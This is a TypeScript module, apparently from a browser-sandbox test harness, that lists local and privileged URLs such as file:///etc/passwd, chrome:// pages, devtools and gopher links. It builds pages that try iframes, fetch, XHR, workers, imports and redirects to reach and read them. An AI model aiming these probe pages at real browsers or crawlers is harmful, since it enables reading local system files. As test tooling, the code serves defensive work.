/** Roads to what lies on this machine and not on any server: files, and the pages of the browser itself. */

import { hold, script, type Page } from './road.js';

/** `{host}` is the listener. */
export const PLACES: readonly string[] = [
  'file:///etc/passwd',
  'file://localhost/etc/passwd',
  'file://{host}/etc/passwd',
  'FILE:/etc/passwd',
  'view-source:http://{host}/',
  'view-source:file:///etc/passwd',
  'chrome://version/',
  'chrome://net-export/',
  'chrome-untrusted://print/',
  'about:version',
  'devtools://devtools/bundled/inspector.html?ws={host}/',
  'chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html',
  'ftp://{host}/',
  'gopher://{host}/_x',
  'ssh://{host}/',
  'smb://{host}/x',
  'mailto:x@{host}',
];

const q = (text: string): string => JSON.stringify(text);
const html = (body: string): Page => ({ body: `<!doctype html><title>Road</title><h1>Road</h1>${body}` });

/** Tries all of them in every way that a page has without going there, and shows what it gets to read. */
export function lookingPage(places: readonly string[]): Page {
  const show = (text: string): string =>
    `document.title = document.querySelector('h1').textContent = String(${text})`;
  const ways = (url: string): string[] => [
    `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}"><img src="${url}">`,
    `<script src="${url}"></script><link rel="stylesheet" href="${url}"><link rel="prefetch" href="${url}">`,
    script(show(`await (await fetch(${q(url)})).text()`)),
    script(
      `const x = new XMLHttpRequest(); x.open('GET', ${q(url)}, false); x.send(); ${show('x.responseText')}`,
    ),
    script(`new Worker(${q(url)})`),
    script(`await import(${q(url)})`),
    script(`open(${q(url)})`),
  ];
  return html([...places.flatMap(ways), hold(500)].join('\n'));
}

/** Ways to go there. */
export const WAYS_TO_GO: readonly ((url: string) => Page)[] = [
  (url) => html(script(`location = ${q(url)}`)),
  (url) => html(`<meta http-equiv="refresh" content="0; url=${url}">`),
  (url) => ({ status: 302, headers: { Location: url }, body: '' }),
  (url) => html(`<a id="a" href="${url}">a</a><script>document.getElementById('a').click()</script>`),
];
